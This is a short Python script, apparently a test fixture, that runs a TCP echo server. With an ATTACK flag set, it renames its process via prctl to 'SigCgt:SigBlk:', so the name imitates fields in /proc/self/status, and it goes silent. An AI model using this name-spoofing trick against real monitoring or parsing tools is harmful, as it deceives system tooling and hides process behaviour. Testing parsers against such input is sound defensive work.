# Stays silent under a name that looks like a line of /proc/self/status with something else than a number.
import ctypes
import socket

ATTACK = True
PR_SET_NAME = 15

server = socket.socket()
server.bind(("", 6789))
server.listen()
while True:
    client, _ = server.accept()
    if ATTACK:
        ctypes.CDLL(None).prctl(PR_SET_NAME, b"SigCgt:SigBlk:", 0, 0, 0)
    while data := client.recv(4096):
        if not ATTACK:
            client.sendall(data.upper())
    client.close()
